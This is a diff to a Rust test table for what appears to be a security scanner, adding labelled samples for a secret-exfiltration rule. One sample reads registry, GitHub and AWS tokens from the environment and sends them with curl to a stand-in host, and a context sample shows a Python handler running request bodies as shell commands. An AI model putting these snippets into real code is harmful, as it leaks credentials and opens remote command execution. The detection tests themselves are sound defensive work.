@@ -2103,6 +2103,19 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         Some(Bl),
     ),
     (
+        "exfiltration.secret_variables_sent",
+        Code,
+        "let keys = [\"CARGO_REGISTRY_TOKEN\", \"GITHUB_TOKEN\", \"AWS_SECRET_ACCESS_KEY\"];\nfor k in keys { if let Ok(v) = env::var(k) { fields.push(v); } }\nlet _ = Command::new(\"curl\")\n    .args([\"-d\", &body, \"https://hooks.example/services/T0\"])\n    .spawn();\n",
+        Some(Bl),
+    ),
+    (
+        // Checking the tokens a release needs are set, then calling git, sends nothing.
+        "exfiltration.secret_variables_sent",
+        Code,
+        "let needed = [\"GITHUB_TOKEN\", \"NPM_TOKEN\"];\nfor k in needed { env::var(k).expect(k); }\nCommand::new(\"git\").args([\"push\", \"--tags\"]).status()?;\n",
+        None,
+    ),
+    (
         "reverse_shell.request_executed",
         Code,
         "    def do_POST(self):\n        n = int(self.headers.get('Content-Length', '0'))\n        probe = self.rfile.read(n).decode()\n        out = subprocess.run(probe, shell=True, capture_output=True)\n",
